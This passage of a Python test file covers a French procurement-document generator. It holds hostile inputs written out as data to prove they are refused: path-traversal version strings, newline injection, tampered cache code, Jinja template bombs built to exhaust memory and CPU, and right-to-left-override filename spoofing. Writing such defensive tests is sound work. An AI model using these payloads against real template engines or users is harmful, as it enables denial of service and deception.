    assert b"2026-0142 bis" in out.read_bytes().replace(b"\r\n ", b"")


def test_item5_dash_writes_the_document_to_standard_output(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import io
    import zipfile

    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", "-"])
    assert result.exit_code == 0
    assert zipfile.ZipFile(io.BytesIO(result.stdout_bytes)).testzip() is None
    assert "CCAP écrit" in result.stderr
    assert not Path("-").exists()


def test_item5_extension_must_match_what_is_written(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = runner.invoke(cli, ["ccap", "--sans-pagination",
                                 str(NETTOYAGE), "-o", str(tmp_path / "ccap.pdf")])
    _refused(result, 1, "l'extension ne correspond pas au contenu écrit", "ccap.docx")
    assert list(tmp_path.iterdir()) == []


def test_item5_plan_default_name_carries_the_year(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    for annee in (1, 2):
        result = runner.invoke(cli, ["plan", str(NETTOYAGE), "--annee", str(annee)])
        if result.exit_code == 0:
            assert (tmp_path / f"plan-{annee}.docx").exists()
    assert (tmp_path / "plan-1.docx").exists()
    assert not (tmp_path / "plan.docx").exists()


# --- library commands (L3, L11, L14) -----------------------------------------------------------


def _org_library(runner, tmp_path: Path) -> Path:  # type: ignore[no-untyped-def]
    overlay = _overlay(tmp_path / "org", "Texte de l'organisation.")
    return overlay


def test_L3_non_semver_versions_are_french_errors(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    overlay = _org_library(runner, tmp_path)
    for version in ("abc", "../../../../evil", "9" * 60 + ".0.0"):
        result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version",
                                     version, "--bibliotheque", str(overlay)])
        _refused(result, 2, "format MAJEUR.MINEUR.CORRECTIF attendu")
        result = runner.invoke(cli, ["bibliotheque", "publier", version, "--le", "2026-11-30",
                                     "--bibliotheque", str(overlay)])
        _refused(result, 2, "format MAJEUR.MINEUR.CORRECTIF attendu")
    assert not (overlay / "releases").exists()


def test_L11_proc_or_usr_as_a_library_is_refused_quickly(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for root in ("/proc", "/usr"):
        result = runner.invoke(cli, ["ccap", "--sans-pagination",
                                     str(NETTOYAGE), "-o", str(tmp_path / "c.docx"),
                                     "--bibliotheque", root])
        _refused(result, 2, "n'est pas une bibliothèque de clauses")


def test_L14_reviewer_name_with_newlines_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    overlay = _overlay(tmp_path / "org", "Texte.", statut="en_revue", revue=False)
    result = runner.invoke(cli, ["bibliotheque", "statut", "general.objet@1.0.0", "valide", "--par",
                                 "Nom\nstatut: valide", "--le", "2026-11-30", "--bibliotheque", str(overlay)])
    _refused(result, 2, "doit tenir sur une ligne")


# --- the organisation library (issue item 1) ---------------------------------------------------


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_item1_bundled_library_is_read_only(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    before = _tree(LIBRARY)
    for args in (["nouvelle-version", "general.objet", "--version", "9.0.0"],
                 ["statut", "general.objet@1.0.0", "retire"],
                 ["publier", "9.0.0", "--le", "2026-11-30"]):
        result = runner.invoke(cli, ["bibliotheque", *args])
        _refused(result, 1, "bibliothèque fournie", "clausegen bibliotheque init")
    overlay = _overlay(tmp_path / "org", "Texte.")
    result = runner.invoke(cli, ["bibliotheque", "statut", "plan_progres.objet@1.0.0", "retire",
                                 "--bibliotheque", str(overlay)])
    _refused(result, 1, "appartient à la bibliothèque fournie, en lecture seule")
    assert _tree(LIBRARY) == before


def _latest_and_next(fragment_id: str) -> tuple[str, str]:
    """The latest bundled version of a fragment and the next minor version (computed: a
    library release may already ship the version a test would otherwise hard-code)."""
    from clausegen.library import load_library

    latest = str(load_library(LIBRARY).versions(fragment_id)[-1].meta.version)
    major, minor, _ = (int(part) for part in latest.split("."))
    return latest, f"{major}.{minor + 1}.0"


def test_item1_init_then_new_version_goes_to_the_organisation_library(runner, tmp_path: Path,
                                                                      monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    latest, new = _latest_and_next("general.objet")
    before = _tree(LIBRARY)
    result = runner.invoke(cli, ["bibliotheque", "init", "orga"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / ".clausegen.yml").read_text(encoding="utf-8").endswith("  - orga\n")
    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", new])
    assert result.exit_code == 0, result.output
    assert "Bibliothèques de l'organisation ajoutées par" in result.output
    draft = tmp_path / "orga" / "fragments" / "general.objet" / f"{new}.md"
    assert "statut: brouillon" in draft.read_text(encoding="utf-8")
    result = runner.invoke(cli, ["ccap", "--sans-pagination",
                                 str(NETTOYAGE), "-o", "c.docx"])  # the bundled one still in force
    assert result.exit_code == 0, result.output
    from clausegen.render.readers.inspect import read_provenance

    record = read_provenance((tmp_path / "c.docx").read_bytes())
    assert record["fragment.general.objet"].startswith(f"{latest} ")
    for target, extra in (("en_revue", []), ("valide", ["--par", "Maître Durand", "--le", "2026-12-01"])):
        result = runner.invoke(cli, ["bibliotheque", "statut", f"general.objet@{new}", target, *extra])
        assert result.exit_code == 0, result.output
    assert runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", "d.docx"]).exit_code == 0
    record = read_provenance((tmp_path / "d.docx").read_bytes())
    assert record["fragment.general.objet"].startswith(f"{new} ")
    assert _tree(LIBRARY) == before
    result = runner.invoke(cli, ["bibliotheque", "init", "orga"])
    _refused(result, 1, "n'est pas vide")


def test_item1_maintainers_name_the_source_library_explicitly(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import shutil

    from clausegen.api import marche

    source = tmp_path / "clause_library"
    shutil.copytree(LIBRARY, source)
    monkeypatch.setattr(marche, "library_dir", lambda: source)
    _, new = _latest_and_next("general.objet")
    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", new])
    _refused(result, 1, "clausegen bibliotheque init")
    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", new,
                                 "--bibliotheque", str(source)])
    assert result.exit_code == 0, result.output
    assert (source / "fragments" / "general.objet" / f"{new}.md").is_file()


def test_L16_provenance_names_the_organisation_release(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from clausegen.render.readers.inspect import read_provenance

    overlay = _overlay(tmp_path / "org", "Texte de l'organisation.")
    (overlay / "VERSION").write_text("2.0.0\n", encoding="utf-8")
    out = tmp_path / "c.docx"
    result = runner.invoke(cli, ["ccap", "--sans-pagination",
                                 str(NETTOYAGE), "-o", str(out), "--bibliotheque", str(overlay)])
    assert result.exit_code == 0, result.output
    assert read_provenance(out.read_bytes())["bibliotheque"].endswith(" + org 2.0.0")


def test_item10_compiled_code_cache_is_used_and_a_tampered_entry_is_ignored(tmp_path: Path,
                                                                           monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from clausegen import templating

    monkeypatch.setenv("CLAUSEGEN_CACHE", str(tmp_path / "cache"))
    cache = templating.CodeCache()
    monkeypatch.setattr(templating, "_CODE_CACHE", cache)
    source = "Texte {{ nom }} (cache de code)."
    templating._compile.cache_clear()
    assert templating.render_text(source, {"nom": "A"}, fragment_id="x") == "Texte A (cache de code)."
    entry = next((tmp_path / "cache").glob("jinja-*/*.py"))
    assert cache.load(source) is not None
    signature, _, code = entry.read_text(encoding="utf-8").partition("\n")
    entry.write_text(signature + "\n" + code.replace("Texte ", "Piégé "), encoding="utf-8")
    assert cache.load(source) is None
    templating._compile.cache_clear()
    assert templating.render_text(source, {"nom": "B"}, fragment_id="x") == "Texte B (cache de code)."


def test_L4_body_mark_in_a_dossier_value_does_not_paste_the_body(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import io
    import zipfile

    from clausegen.render.writers.fast import BODY_MARK

    dossier = _nettoyage_with(tmp_path, "objet: Nettoyage et entretien des bâtiments communaux",
                              f'objet: "Nettoyage et entretien {BODY_MARK}"')
    out = tmp_path / "c.docx"
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(dossier), "-o", str(out)])
    assert result.exit_code == 0, result.output
    document = zipfile.ZipFile(io.BytesIO(out.read_bytes())).read("word/document.xml").decode()
    assert document.count("Nettoyage et entretien") < 5
    assert not re.search(r"<w:t[^>]*>[^<]*<w:p", document)


def test_item8_lot_suivi_writes_every_piece_of_each_dossier(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "dossiers"
    folder.mkdir()
    (folder / "a.yml").write_text(NETTOYAGE.read_text(encoding="utf-8"), encoding="utf-8")
    result = runner.invoke(cli, ["lot", "--sans-pagination",
                                 str(folder), "-o", str(tmp_path / "sortie"), "--suivi", "-j", "1"])
    assert result.exit_code == 0, result.output
    names = {p.name for p in (tmp_path / "sortie" / "a").iterdir()}
    assert {"ccap.docx", "cctp.docx", "convocation.docx", "echeancier.ics", "tableau-de-bord.xlsx"} <= names


def test_item4_typos_in_commands_and_fragment_ids_get_the_closest_name(runner) -> None:  # type: ignore[no-untyped-def]
    result = runner.invoke(cli, ["cap", str(NETTOYAGE)])
    _refused(result, 2, "Vouliez-vous dire « ccap »")
    result = runner.invoke(cli, ["bibliotheque", "historique", "general.objt"])
    _refused(result, 2, "Vouliez-vous dire « general.objet »")


def test_L5_docxtpl_escapes_in_a_dossier_value_print_as_typed(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from clausegen.render.readers.inspect import dump_text

    dossier = _nettoyage_with(tmp_path, "objet: Nettoyage et entretien des bâtiments communaux",
                              'objet: "Nettoyage {_{ x }_} et {_% y %_}"')
    out = tmp_path / "c.docx"
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(dossier), "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = dump_text(out.read_bytes())
    assert "{{ x }}" not in text
    assert text.count("{_{ x }_}") >= 2  # cover or header, and body


def test_item8_tableau_de_bord_takes_per_year_files(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import openpyxl
    import yaml

    data = yaml.safe_load(NETTOYAGE.read_text(encoding="utf-8"))
    plans, bilans = data.pop("plans"), data.pop("bilans")
    dossier = tmp_path / "d.yml"
    dossier.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    files = []
    for kind, items in (("--plan", plans), ("--resultats", bilans)):
        for item in items:
            path = tmp_path / f"{kind[2:]}-{item['annee']}.yml"
            path.write_text(yaml.safe_dump(item, allow_unicode=True, sort_keys=False), encoding="utf-8")
            files += [kind, str(path)]
    out = tmp_path / "t.xlsx"
    result = runner.invoke(cli, ["tableau-de-bord", str(dossier), *files, "-o", str(out)])
    assert result.exit_code == 0, result.output
    sheets = openpyxl.load_workbook(out).sheetnames
    assert sheets == ["Synthèse", *(f"Année {p['annee']}" for p in plans)]
    reference = tmp_path / "ref.xlsx"
    assert runner.invoke(cli, ["tableau-de-bord", str(NETTOYAGE), "-o", str(reference)]).exit_code == 0
    assert openpyxl.load_workbook(reference).sheetnames == sheets


# --- campaign of 2026-12-07: C1 (amplification past the bounds) -------------------------------

_ARBRE = ("{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = [ns.s, ns.s] %}"
          "{% endfor %}")
C1_CASES = {
    "replace-filtre": "{{ ('a'*900000)|replace('a','aaaaaaaaaa')|replace('a','aaaaaaaaaa')|length }}",
    "replace-methode": "{{ ('a'*900000).replace('a','aaaaaaaaaa')|length }}",
    "replace-vide": "{{ ('a'*500000)|replace('','bb')|length }}",
    "tojson-arbre": _ARBRE + "{{ ns.s|tojson|length }}",
    "pprint-arbre": _ARBRE + "{{ ns.s|pprint|length }}",
    "string-arbre": _ARBRE + "{{ ns.s|string|length }}",
    "affichage-arbre": _ARBRE + "{{ ns.s }}",
    "tilde-arbre": _ARBRE + "{{ (ns.s ~ '')|length }}",
    "comparaison-arbre": _ARBRE + "{% set nt = namespace(s='ab') %}{% for i in range(40) %}"
                                  "{% set nt.s = [nt.s, nt.s] %}{% endfor %}{{ ns.s == nt.s }}",
    "espaces-de-noms": "{% set ns = namespace(p=1) %}{% set l = [] %}{% for i in range(40) %}"
                       "{% if l.append(namespace()) %}{% endif %}{% endfor %}{% for n in l %}"
                       "{% set n.a = ns.p %}{% set n.b = ns.p %}{% set ns.p = n %}{% endfor %}"
                       "{{ ns.p|string|length }}",
    "puissances": "{% set ns = namespace(n=10) %}{% for i in range(8) %}{% set ns.n = ns.n ** 64 %}"
                  "{% endfor %}{{ ns.n > 1 }}",
    "tabulations": "{{ ('\t' * 100000).expandtabs(100000)|length }}",
    "translate": "{{ ('a' * 100000).translate({97: 'b' * 100000})|length }}",
    "liste-circulaire": "{% set l = [] %}{{ l.append(l) }}{{ l|tojson }}",
}


def test_C1_fragment_amplification_is_refused_quickly(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import time

    from tests.test_hostile import _overlay

    for name, body in C1_CASES.items():
        folder = tmp_path / name
        overlay = _overlay(folder / "bib", body)
        out = folder / "sortie"
        out.mkdir()
        debut = time.monotonic()
        result = runner.invoke(cli, ["ccap", "--sans-pagination",
                                     str(NETTOYAGE), "-o", str(out / "ccap.docx"),
                                     "--bibliotheque", str(overlay)])
        assert time.monotonic() - debut < 4, name
        assert result.exit_code == 2, (name, result.output)
        assert "bac à sable" in result.output, (name, result.output)
        assert list(out.iterdir()) == [], name


def test_C1_skeleton_amplification_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for index, body in enumerate((C1_CASES["replace-filtre"], C1_CASES["tojson-arbre"])):
        folder = tmp_path / str(index)
        folder.mkdir()
        result = _ccap_with_skeleton(runner, folder, _skeleton(folder, body))
        _refused(result, 2, "Modèle Word", "bac à sable")


# --- campaign of 2026-12-07: W13 (bidirectional and zero-width characters) -------------------

TROMPEURS = {"marche.objet": ("objet: ", "Nettoyage \u202efdp.exe\u202c et entretien"),
             "acheteur.nom": ("nom: ", "Ville\u200b de \u2067Saint\u2069\u202d-Aubin")}


def test_W13_bidi_and_zero_width_characters_are_refused_in_dossier_text(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import yaml

    for champ, (_, valeur) in TROMPEURS.items():
        donnees = yaml.safe_load(NETTOYAGE.read_text(encoding="utf-8"))
        section, cle = champ.split(".")
        donnees[section][cle] = valeur
        dossier = tmp_path / f"{section}.yml"
        dossier.write_text(yaml.safe_dump(donnees, allow_unicode=True), encoding="utf-8")
        out = tmp_path / f"{section}.docx"
        result = runner.invoke(cli, ["ccap", "--sans-pagination", str(dossier), "-o", str(out)])
        _refused(result, 2, "caractère invisible ni de contrôle de direction", champ)
        assert not out.exists()


def test_W13_the_importer_drops_bidi_and_zero_width_characters(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import docx

    document = docx.Document()
    document.add_heading("Pénalités\u200b de \u202eretard\u202c", level=1)
    document.add_paragraph("Le titulaire\u2066 encourt une pénalité.")
    source = tmp_path / "clauses.docx"
    document.save(source)
    result = runner.invoke(cli, ["bibliotheque", "importer", str(source), "--bibliotheque",
                                 str(tmp_path / "org"), "--prefixe", "ville"])
    assert result.exit_code == 0, result.output
    ecrits = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "org").rglob("*.md"))
    assert "Pénalités de retard" in ecrits
    assert "Le titulaire encourt" in ecrits
    assert not re.search("[\u200b\u202a-\u202e\u2066-\u2069]", ecrits)


# --- campaign of 2026-12-07, item 8: lot under Ctrl-C, SIGTERM and a killed worker, re-tested --


def _complete_or_absent(out: Path) -> list[str]:
    """Every dossier folder holds both pieces and nothing else; nothing else anywhere."""
    written = sorted(d.name for d in out.iterdir() if d.is_dir()) if out.exists() else []
    strays = [str(p.relative_to(out)) for p in out.rglob("*")
              if p.is_file() and p.name not in ("ccap.docx", "cctp.docx")] if out.exists() else []
    assert strays == [], strays
    for name in written:
        assert sorted(p.name for p in (out / name).iterdir()) == ["ccap.docx", "cctp.docx"], name
    return written


@pytest.mark.slow
@pytest.mark.parametrize(("signal_name", "code"), [("SIGINT", 130), ("SIGTERM", 143)])
def test_8_lot_stopped_by_a_signal_writes_nothing_half_and_says_so(tmp_path: Path, signal_name: str,
                                                                   code: int) -> None:
    import signal

    process, out = _start_lot(tmp_path, 300)
    process.send_signal(getattr(signal, signal_name))
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == code, stderr
    assert "Traceback" not in stderr
    written = _complete_or_absent(out)
    assert 0 < len(written) < 300
    assert f"Interrompu : {len(written)} dossier(s) sur 300 entièrement générés" in stderr
    assert "les autres n'ont rien écrit" in stderr


@pytest.mark.slow
def test_8_lot_with_a_worker_killed_from_outside_goes_on(tmp_path: Path) -> None:
    import os
    import signal

    process, out = _start_lot(tmp_path, 120)
    workers = _children(process.pid)
    assert workers
    os.kill(workers[0], signal.SIGKILL)  # the OOM killer, or an operator
    stdout, stderr = process.communicate(timeout=120)
    assert "Traceback" not in stderr
    written = _complete_or_absent(out)
    if process.returncode == 0:  # the dossier it held ran again alone, and passed
        assert len(written) == 120
        assert "120 dossier(s) sur 120 générés" in stdout
    else:
        assert process.returncode == 1, stderr
        assert "arrêté par le système" in stderr
        assert len(written) == 119
